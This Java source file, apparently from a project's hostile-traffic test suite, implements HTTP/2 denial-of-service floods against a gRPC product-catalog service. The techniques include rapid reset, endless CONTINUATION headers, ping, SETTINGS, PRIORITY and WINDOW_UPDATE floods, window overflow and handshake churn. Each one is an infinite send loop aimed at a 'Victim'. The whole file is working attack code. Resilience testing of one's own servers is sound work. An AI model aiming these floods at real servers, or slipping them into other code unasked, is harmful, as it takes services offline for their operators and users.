package dev.commercesuite.system.hostile;

import dev.commercesuite.api.catalog.v1.ListProductsRequest;
import dev.commercesuite.system.hostile.Attack.Hold;
import dev.commercesuite.system.hostile.Http2Connection.Reading;
import java.io.IOException;
import java.util.function.BiConsumer;

/** Frames that cost the sender nothing, as many as the connection takes. */
final class Floods {
  static final String LIST_PRODUCTS = "/commerce.catalog.v1.CatalogService/ListProducts";

  private static final byte[] NOTHING = {};
  private static final byte[] NO_PADDING = {0};
  private static final byte[] EIGHT = new byte[8];
  private static final byte[] ONE = {0, 0, 0, 1};
  private static final byte[] OF_STREAM_1 = {0, 0, 0, 1, 16};
  private static final int UNKNOWN = 0xee;
  private static final int CANCEL = 8;

  /** Calls of one write. */
  private static final int CALLS = 50;

  private static final byte[] ONE_PRODUCT =
      ListProductsRequest.newBuilder().setPageSize(1).build().toByteArray();

  private Floods() {}

  static Hold emptyData(Line line, Victim victim) throws IOException {
    return onOneStream(line, victim, Frames.batch(Frames.DATA, 0, 1, NOTHING));
  }

  /** The length of the padding counts for the window, so that it is waited for. */
  static Hold paddedData(Line line, Victim victim) throws IOException {
    byte[] frames = Frames.batch(Frames.DATA, Frames.PADDED, 1, NO_PADDING);
    int counted = frames.length / (Frames.HEADER_BYTES + NO_PADDING.length);
    Http2Connection connection = withOneStream(line, victim);
    return () -> {
      while (true) {
        connection.awaitWindow(counted);
        connection.send(frames);
      }
    };
  }

  static Hold windowUpdates(Line line, Victim victim) throws IOException {
    return onConnection(
        line, victim, Frames.batch(Frames.WINDOW_UPDATE, 0, Frames.CONNECTION, ONE));
  }

  static Hold pingAnswers(Line line, Victim victim) throws IOException {
    return onConnection(
        line, victim, Frames.batch(Frames.PING, Frames.ACK, Frames.CONNECTION, EIGHT));
  }

  static Hold pings(Line line, Victim victim) throws IOException {
    return onConnection(line, victim, Frames.batch(Frames.PING, 0, Frames.CONNECTION, EIGHT));
  }

  static Hold priorities(Line line, Victim victim) throws IOException {
    return onConnection(line, victim, Frames.batch(Frames.PRIORITY, 0, 3, OF_STREAM_1));
  }

  static Hold unknown(Line line, Victim victim) throws IOException {
    return onConnection(line, victim, Frames.batch(UNKNOWN, 0, Frames.CONNECTION, EIGHT));
  }

  static Hold settings(Line line, Victim victim) throws IOException {
    return onConnection(line, victim, Frames.batch(Frames.SETTINGS, 0, Frames.CONNECTION, NOTHING));
  }

  static Hold unreadSettings(Line line, Victim victim) throws IOException {
    Http2Connection connection = open(line, victim, Reading.NOTHING);
    return repeating(connection, Frames.batch(Frames.SETTINGS, 0, Frames.CONNECTION, NOTHING));
  }

  static Hold rapidReset(Line line, Victim victim) throws IOException {
    return calls(
        line, victim, (frames, stream) -> frames.addNumber(Frames.RST_STREAM, stream, CANCEL));
  }

  static Hold windowUpdateZero(Line line, Victim victim) throws IOException {
    return calls(
        line, victim, (frames, stream) -> frames.addNumber(Frames.WINDOW_UPDATE, stream, 0));
  }

  static Hold windowOverflow(Line line, Victim victim) throws IOException {
    return calls(
        line,
        victim,
        (frames, stream) -> frames.addNumber(Frames.WINDOW_UPDATE, stream, Integer.MAX_VALUE));
  }

  /** Of one block of headers that is never at its end. */
  static Hold continuation(Line line, Victim victim) throws IOException {
    Http2Connection connection = open(line, victim, Reading.FRAMES);
    connection.send(
        new Frames()
            .add(Frames.HEADERS, 0, connection.newStream(), Hpack.call(LIST_PRODUCTS, ""))
            .toBytes());
    return repeating(connection, Frames.batch(Frames.CONTINUATION, 0, 1, Hpack.anything()));
  }

  /** One that is over when it has begun. */
  static Hold handshake(Line line, Victim victim) throws IOException {
    Http2Connection connection = open(line, victim, Reading.NOTHING);
    return connection::close;
  }

  /** Complete calls, each with something behind it that ends its stream. */
  private static Hold calls(Line line, Victim victim, BiConsumer<Frames, Integer> end)
      throws IOException {
    Http2Connection connection = open(line, victim, Reading.FRAMES);
    return () -> {
      while (true) {
        Frames frames = new Frames();
        for (int call = 0; call < CALLS; call++) {
          int stream = connection.newStream();
          frames.call(stream, LIST_PRODUCTS, "").lastMessage(stream, ONE_PRODUCT);
          end.accept(frames, stream);
        }
        connection.send(frames.toBytes());
      }
    };
  }

  private static Hold onConnection(Line line, Victim victim, byte[] frames) throws IOException {
    return repeating(open(line, victim, Reading.FRAMES), frames);
  }

  private static Hold onOneStream(Line line, Victim victim, byte[] frames) throws IOException {
    return repeating(withOneStream(line, victim), frames);
  }

  private static Hold repeating(Http2Connection connection, byte[] frames) {
    return () -> {
      while (true) {
        connection.send(frames);
      }
    };
  }

  private static Http2Connection withOneStream(Line line, Victim victim) throws IOException {
    Http2Connection connection = open(line, victim, Reading.FRAMES);
    connection.send(new Frames().call(connection.newStream(), LIST_PRODUCTS, "").toBytes());
    return connection;
  }

  private static Http2Connection open(Line line, Victim victim, Reading reading)
      throws IOException {
    return Http2Connection.open(
        line, victim.grpc(), reading, new Frames().add(Frames.SETTINGS, 0, Frames.CONNECTION));
  }
}
